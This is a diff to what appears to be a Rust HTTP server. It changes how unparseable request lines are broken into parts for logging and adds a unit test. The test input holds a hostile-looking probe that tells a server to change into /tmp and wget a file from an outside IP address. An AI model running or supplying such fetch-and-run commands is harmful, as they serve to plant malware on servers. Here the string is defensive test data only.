@@ -159,17 +159,25 @@ impl Head {
         })
     }
 
-    /// Stands for a head whose request line makes no sense.
+    /// Makes what can be made of a request line that [`Head::parse`] refuses; for the record.
     pub(super) fn unreadable(line: &[u8]) -> Self {
-        // HEAD gets no body even then.
-        let method = if line.starts_with(b"HEAD ") { b"HEAD".to_vec() } else { Vec::new() };
+        let end = line.iter().position(|byte| byte.is_ascii_whitespace()).unwrap_or(line.len());
+        let (method, rest) = line.split_at_checked(end).unwrap_or_default();
+        let (method, rest) = match method.iter().copied().all(token) {
+            true => (method, rest.trim_ascii()),
+            false => (&b""[..], &b""[..]),
+        };
+        let word = rest.iter().rposition(|byte| *byte == b' ').map_or(0, |blank| blank.saturating_add(1));
+        let protocol = rest.get(word..).filter(|word| word.starts_with(b"HTTP/")).unwrap_or_default();
+        let target = rest.strip_suffix(protocol).unwrap_or(rest).trim_ascii_end();
+        let mark = target.iter().position(|byte| *byte == b'?');
         Self {
-            method,
-            target: Vec::new(),
+            method: method.to_vec(),
+            target: target.to_vec(),
             authority: None,
-            path: Vec::new(),
-            query: None,
-            protocol: Vec::new(),
+            path: target.get(..mark.unwrap_or(target.len())).unwrap_or_default().to_vec(),
+            query: mark.and_then(|mark| target.get(mark.saturating_add(1)..)).map(<[u8]>::to_vec),
+            protocol: protocol.to_vec(),
             version: Version::One,
             fields: Vec::new(),
             size: 0,
@@ -382,6 +390,14 @@ mod tests {
         assert_eq!(resolve(b"/a%2fb"), Err(404));
         assert_eq!(resolve(b"/a%00b"), Err(404));
         assert_eq!(resolve(b"/a%zzb"), Err(400));
+    }
+
+    #[test]
+    fn of_a_line_with_blanks_in_its_target_everything_is_kept() {
+        let head = Head::unreadable(b"GET /shell?cd /tmp; wget http://192.0.2.9/x HTTP/1.1");
+        assert_eq!((head.method.as_slice(), head.path.as_slice()), (&b"GET"[..], &b"/shell"[..]));
+        assert_eq!(head.query.as_deref(), Some(&b"cd /tmp; wget http://192.0.2.9/x"[..]));
+        assert_eq!(Head::unreadable(b"\xff\xfe x").method, b"");
     }
 
     #[test]
